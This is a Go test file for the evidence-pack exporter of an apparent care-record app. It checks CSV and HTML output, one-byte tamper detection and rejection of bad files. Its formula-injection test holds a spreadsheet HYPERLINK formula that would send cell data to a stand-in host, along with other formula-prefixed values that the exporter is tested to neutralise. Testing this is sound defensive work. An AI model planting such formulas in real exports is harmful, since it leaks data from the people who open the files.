package evidence_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/shiftsync/shiftsync/server/evidence"
	"github.com/shiftsync/shiftsync/server/shiftsync"
)

// testPack returns a pack of three records whose summaries are those given.
func testPack(summaries ...string) shiftsync.EvidencePack {
	at := time.Date(2026, 3, 2, 7, 40, 0, 0, time.UTC)
	pack := shiftsync.EvidencePack{ID: "0190a000-0000-7000-8000-00000000aaaa", EventTimes: map[string]time.Time{}}
	for i, s := range summaries {
		r := &shiftsync.Record{RecordRef: shiftsync.RecordRef{RecordID: "0190a000-0000-7000-8000-00000000000" + string(rune('1'+i)), RecordType: "incident"},
			CreatedBy: "ana", RecordedAt: at.Add(time.Hour), ReceivedAt: at.Add(2 * time.Hour),
			Fields: map[string]shiftsync.Value{"behaviour_description": {Kind: shiftsync.KindString, String: s}}}
		pack.Records, pack.EventTimes[r.RecordID] = append(pack.Records, r), at.Add(time.Duration(i)*time.Minute)
	}
	return withRows(pack)
}

// withRows returns the pack with its rows and manifest made from its
// records.
func withRows(pack shiftsync.EvidencePack) shiftsync.EvidencePack {
	at := time.Date(2026, 3, 2, 7, 40, 0, 0, time.UTC)
	pack.Rows = nil
	for _, r := range pack.Records {
		pack.Rows = append(pack.Rows, shiftsync.NewPackRow(r, pack.EventTimes[r.RecordID]))
	}
	pack.Manifest = shiftsync.NewManifest("house-a", "sam", at, at.Add(24*time.Hour), "meera", at.Add(48*time.Hour), pack.Records, pack.Rows)
	return pack
}

// TestWriteCSV_InertFormulas: text written on a device that a spreadsheet
// would run as a formula reaches the CSV as plain text, and reads back as
// written, so its row still verifies.
func TestWriteCSV_InertFormulas(t *testing.T) {
	tests := []struct{ description, want string }{
		{`=HYPERLINK("http://example.test/?"&A1,"open")`, `'=HYPERLINK("http://example.test/?"&A1,"open")`},
		{"+1 staff", "'+1 staff"},
		{"-2 hours", "'-2 hours"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"'quoted", "''quoted"},
		{"Hit the door frame", "Hit the door frame"},
	}
	for _, tt := range tests {
		var b bytes.Buffer
		if err := evidence.WriteCSV(&b, testPack(tt.description)); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := rows[1][6]; got != tt.want {
			t.Errorf("summary of %q = %q, want %q", tt.description, got, tt.want)
		}
		f, err := evidence.ReadPack(b.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		if got := f.Rows[0].Row.Summary; got != tt.description {
			t.Errorf("summary of %q read back as %q", tt.description, got)
		}
		if c := f.Check(); !c.OK() {
			t.Errorf("pack of %q: %+v, want it to verify", tt.description, c)
		}
	}
}

// TestReadPack_OneByteChanged changes one byte of a row's summary, event
// time or author in the pack's CSV and in its HTML: the check names that
// row and the root no longer matches; the untouched pack verifies.
func TestReadPack_OneByteChanged(t *testing.T) {
	pack := testPack("Hit the door frame", "Shouted at the minibus driver & left", "Sat on the floor in the hall")
	var page, table bytes.Buffer
	if err := evidence.WriteHTML(&page, pack); err != nil {
		t.Fatal(err)
	}
	if err := evidence.WriteCSV(&table, pack); err != nil {
		t.Fatal(err)
	}
	second := pack.Rows[1]
	for name, file := range map[string][]byte{"csv": table.Bytes(), "html": page.Bytes()} {
		f, err := evidence.ReadPack(file)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if c := f.Check(); !c.OK() || c.Rows != 3 || f.PackID != pack.ID || f.Root != pack.Manifest.Root {
			t.Fatalf("untouched %s: %+v, pack %q root %q", name, c, f.PackID, f.Root)
		}
		for what, cell := range map[string]string{"summary": "the minibus driver &", "event time": second.EventTime, "author": "," + second.Author + ","} {
			if name == "html" {
				cell = strings.ReplaceAll(strings.ReplaceAll(cell, "&", "&amp;"), ",", "")
				if what == "author" {
					cell = "<td>" + second.Author + "</td>"
				}
			}
			start := bytes.Index(file, []byte(second.RecordID))
			i := bytes.Index(file[start:], []byte(cell))
			if start < 0 || i < 0 {
				t.Fatalf("%s: %q not found in the second row", name, cell)
			}
			i += start
			// The cell's first letter or digit, in the second row.
			at := i + strings.IndexFunc(cell, func(r rune) bool { return r >= '0' && r <= '9' || r >= 'a' && r <= 'z' })
			if what == "author" && name == "html" {
				at = i + len("<td>")
			}
			changed := slices.Clone(file)
			changed[at]++
			f, err := evidence.ReadPack(changed)
			if err != nil {
				t.Fatalf("%s, %s changed: %v", name, what, err)
			}
			c := f.Check()
			if c.OK() || c.RootMatches || len(c.Changed) != 1 || c.Changed[0].RecordID != second.RecordID {
				t.Errorf("%s with one byte of the second row's %s changed: %+v, want that row named", name, what, c)
			}
		}
	}
}

// TestReadPack_Refused: a file too large, not a pack, or of the first
// encoding is refused with a reason.
func TestReadPack_Refused(t *testing.T) {
	for name, file := range map[string][]byte{
		"too large":    bytes.Repeat([]byte("a"), shiftsync.MaxPackFileBytes+1),
		"not a pack":   []byte("name,age\nsam,30\n"),
		"no manifest":  []byte("record_id,record_type,event_time,author,recorded_at,received_at,summary,row_sha256\n"),
		"v1 csv":       []byte("record_id,record_type,event_time,created_by,recorded_at,received_at,sha256,summary\n"),
		"html no pack": []byte("<!doctype html><p>hello</p>"),
	} {
		if _, err := evidence.ReadPack(file); !errors.Is(err, evidence.ErrUnreadable) {
			t.Errorf("%s: %v, want ErrUnreadable", name, err)
		}
	}
}
